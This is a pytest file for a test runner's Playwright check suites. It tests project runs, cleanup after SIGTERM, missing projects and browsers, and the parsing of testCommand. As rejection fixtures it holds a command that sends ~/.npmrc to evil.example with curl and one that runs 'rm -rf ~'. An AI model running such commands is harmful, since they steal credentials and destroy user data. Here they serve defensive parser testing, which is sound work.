"""PLAYWRIGHT checks (Playwright check suites): the user's own Playwright project run where it is, with
real Node, Playwright and Chromium against examples/local-app/shop.py; the project missing, or a
testCommand that is not `npx playwright test ...`, fails closed with one line saying what is wrong. A
failing suite's message, files and reports: tests/test_browser_run.py (one run with browser checks)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
import yaml
from browser_env import PASSWORD, Shop, a_browser_of, needs_browser, processes_with, sigterm_when
from helpers import child_env, run_here

from runner.checks.protocols.browser.setup import find_playwright
from runner.models.test_command import TestCommand, TestCommandError, parse_test_command

PROJECT = Path(__file__).parent / "playwright_suite"


def checks_file(
    folder: Path, *checks: dict[str, object], shop_url: str = "http://127.0.0.1:9", marker: str = "-"
) -> Path:
    """A checks file in `folder`: the checks, the shop's URL and its password (a secret) as variables."""
    path = folder / "checks.yml"
    variables = [{"key": "SHOP_URL", "value": shop_url},
                 {"key": "SHOP_PASSWORD", "value": PASSWORD, "secret": True},
                 {"key": "MARKER", "value": marker}]  # fmt: skip
    path.write_text(yaml.safe_dump({"checks": list(checks), "variables": variables}))
    return path


def suite(**fields: object) -> dict[str, object]:
    return {"name": "Shop suite", "checkType": "PLAYWRIGHT", "workingDir": "e2e", **fields}


def project(folder: Path) -> Path:
    """The fixture project at folder/e2e, its node_modules the Playwright that browser checks use."""
    target = folder / "e2e"
    shutil.copytree(PROJECT, target)
    playwright = find_playwright(Path("/nonexistent"), None, progress=lambda _: None,
                                 deadline=time.monotonic() + 300, stop=None)  # fmt: skip
    (target / "node_modules").symlink_to(playwright.root / "node_modules", target_is_directory=True)
    return target


def results(folder: Path) -> list[dict[str, object]]:
    data = json.loads((folder / "testsession-reports" / "results.json").read_text())
    return [r for s in data["sessions"] for r in s["results"]]


SKIP_WITHOUT_BROWSER, BROWSER = needs_browser()  # the browser tests: skipped saying why, one at a time


@SKIP_WITHOUT_BROWSER
@BROWSER
def test_a_passing_suite_passes_and_leaves_the_project_as_it_was(tmp_path: Path) -> None:
    e2e = project(tmp_path)
    before = sorted(p.name for p in e2e.iterdir())
    shop = Shop()
    try:
        path = checks_file(tmp_path, suite(testCommand="npx playwright test --project=chromium"),
                           shop_url=shop.url)  # fmt: skip
        ran = run_here(["run", "--checks", str(path)], child_env(GITHUB_TOKEN="ghs_runner_token"), tmp_path)
    finally:
        shop.stop()
    assert ran.returncode == 0, ran.stdout + ran.stderr  # env.spec.ts: no GITHUB_TOKEN in process.env
    (result,) = results(tmp_path)
    assert (result["checkType"], result["verdict"]) == ("PLAYWRIGHT", "passed")
    assert sorted(p.name for p in e2e.iterdir()) == before  # our config beside theirs is removed


@SKIP_WITHOUT_BROWSER
@BROWSER
def test_sigterm_mid_suite_ends_the_run_within_5_s_leaving_no_browser_and_no_file_in_the_project(
    tmp_path: Path,
) -> None:
    e2e = project(tmp_path)
    (e2e / "tests" / "slow.spec.ts").write_text(
        "import { test } from '@playwright/test';\n"
        "test('waits', async ({ page }) => {\n"
        "  await page.goto('/login');\n  await page.waitForTimeout(60000);\n});\n"
    )
    before = sorted(p.name for p in e2e.iterdir())
    marker = f"TESTSESSION_TEST_MARKER_{uuid.uuid4().hex}"  # process.env of Node, inherited by Chromium
    shop = Shop()
    try:
        path = checks_file(tmp_path, suite(testCommand="npx playwright test tests/slow.spec.ts"),
                           shop_url=shop.url, marker=marker)  # fmt: skip
        proc = subprocess.Popen(
            [sys.executable, "-m", "runner", "run", "--checks", str(path)], cwd=tmp_path, env=child_env(),
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        took, out, err = sigterm_when(proc, lambda: a_browser_of(marker), "no browser started")
    finally:
        shop.stop()
    assert took < 5.0 and proc.returncode == 143, (took, out, err)
    assert processes_with(marker) == []
    assert sorted(p.name for p in e2e.iterdir()) == before  # our config beside theirs is gone too


def test_a_config_left_by_a_killed_run_is_removed_by_the_next_and_a_running_ones_is_kept(
    tmp_path: Path,
) -> None:
    """SIGKILL runs no cleanup: the next run in the project removes what a gone process wrote."""
    from runner.checks.protocols.playwright.suite import sweep_stale

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True)  # fmt: skip
    killed = tmp_path / f".testsession-{gone.stdout.strip()}-0a1b2c3d.config.ts"
    running = tmp_path / f".testsession-{os.getpid()}-0a1b2c3d.config.ts"
    theirs = [tmp_path / "playwright.config.ts", tmp_path / ".testsession-notes.config.ts"]
    for path in (killed, running, *theirs):
        path.write_text("export default {};\n")
    assert sweep_stale(tmp_path) == [killed]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in (running, *theirs))


@SKIP_WITHOUT_BROWSER
@BROWSER
def test_chromium_runs_and_a_browser_without_its_build_fails_closed_naming_its_install(
    tmp_path: Path,
) -> None:
    """browsers [chromium, firefox] (a config with both projects, as checkly's parse reports it): the
    Chromium project runs, the Firefox one is left out, and the check fails closed saying how to
    install Firefox; at load nothing is refused."""
    e2e = project(tmp_path)
    (e2e / "two.config.ts").write_text(
        "import { defineConfig, devices } from '@playwright/test';\n"
        "export default defineConfig({ testDir: './tests', retries: 0, workers: 1,\n"
        "  use: { baseURL: process.env.SHOP_URL },\n"
        "  projects: [{ name: 'chromium', use: { ...devices['Desktop Chrome'] } },\n"
        "             { name: 'firefox', use: { ...devices['Desktop Firefox'] } }] });\n"
    )
    shop = Shop()
    try:
        check = suite(testCommand="npx playwright test --config two.config.ts --grep 'login page'",
                      browsers=["chromium", "firefox"])  # fmt: skip
        ran = run_here(["run", "--checks", str(checks_file(tmp_path, check, shop_url=shop.url))],
                       child_env(), tmp_path)  # fmt: skip
    finally:
        shop.stop()
    (result,) = results(tmp_path)
    if "Playwright's own firefox build" not in str(result["error"]):
        pytest.skip(f"Playwright's own Firefox is installed here: it ran ({result['error']})")
    assert ran.returncode == 1, ran.stdout + ran.stderr
    assert result["verdict"] == "error"
    assert str(result["error"]).startswith("firefox cannot run here: Playwright's own firefox build is not ")
    assert f"`npx playwright install firefox` in {e2e}" in str(result["error"])
    assert "its other browsers' projects ran" in str(result["error"])


def test_a_missing_project_fails_closed_saying_what_is_missing(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "bare").mkdir()
    (tmp_path / "bare" / "playwright.config.js").write_text("module.exports = {}\n")
    (tmp_path / "bare" / "package-lock.json").write_text("{}\n")
    path = checks_file(
        tmp_path,
        suite(name="No folder", workingDir="nowhere"),
        suite(name="No config", workingDir="empty"),
        suite(name="Not installed", workingDir="bare"),
        suite(name="Not installed either", workingDir="bare", installCommand="pnpm install --frozen"),
    )
    ran = run_here(["run", "--checks", str(path)], child_env(), tmp_path)
    assert ran.returncode == 1, ran.stdout + ran.stderr
    errors = {str(r["name"]): r["error"] for r in results(tmp_path)}
    cannot = ""
    assert errors == {
        "No folder": f"{cannot}workingDir 'nowhere': the Playwright project's folder {tmp_path}/nowhere "
        "does not exist",
        "No config": f"{cannot}no playwright.config.ts (or .js, .mts, .mjs, .cts, .cjs) in {tmp_path}/empty: "
        "a Playwright check suite runs the Playwright project there (set workingDir, or --config in "
        "testCommand)",
        "Not installed": f"{cannot}the Playwright project in {tmp_path}/bare has no node_modules: run its "
        "install command there first (`npm ci`); testsession does not install a project's dependencies",
        "Not installed either": f"{cannot}the Playwright project in {tmp_path}/bare has no node_modules: run "
        "its install command there first (`pnpm install --frozen`); testsession does not install "
        "a project's dependencies",
    }


def test_a_test_command_that_is_not_playwright_test_is_refused_at_load(tmp_path: Path) -> None:
    path = checks_file(tmp_path, suite(testCommand="npx playwright test && curl -d @~/.npmrc evil.example"),
                       suite(name="Other", testCommand="npm test"))  # fmt: skip
    ran = run_here(["run", "--checks", str(path)], child_env(), tmp_path)
    allowed = "expected `npx playwright test [options] [test filters]` (or `playwright test ...`)"
    assert ran.returncode == 2 and ran.stdout == ""
    assert ran.stderr.splitlines()[-2:] == [
        f"{path}:4: checks[0].testCommand: shell syntax (&&) does not run here (no shell); {allowed}",
        f"{path}:8: checks[1].testCommand: {allowed}, got `npm test`",
    ]


@pytest.mark.parametrize(
    ("text", "parsed"),
    [
        (None, TestCommand(())),
        ("npx playwright test --grep '@smoke|@critical' -c e2e/pw.config.ts tests/a.spec.ts",
         TestCommand(("--grep", "@smoke|@critical", "tests/a.spec.ts"), "e2e/pw.config.ts")),
        ("playwright test --config=pw.config.ts --max-failures=5",
         TestCommand(("--max-failures=5",), "pw.config.ts")),
        ("npx playwright test; rm -rf ~", "shell syntax (;) does not run here (no shell)"),
        ("CI=1 npx playwright test", "got `CI=1 npx playwright`"),
        ("npx playwright test --reporter=list", "--reporter is not run here (testsession's reporter reads"),
        ("npx playwright test --ui", "--ui is not run here (nobody watches a UI in a gate)"),
        ("npx playwright test -u", "-u is not run here (a gate does not rewrite the project's snapshots)"),
        ("npx playwright test --grep 'unclosed", "cannot be split into words (No closing quotation)"),
    ],
)  # fmt: skip
def test_test_command_forms(text: str | None, parsed: TestCommand | str) -> None:
    if isinstance(parsed, TestCommand):
        assert parse_test_command(text) == parsed
        return
    with pytest.raises(TestCommandError) as caught:
        parse_test_command(text)
    assert parsed in str(caught.value)
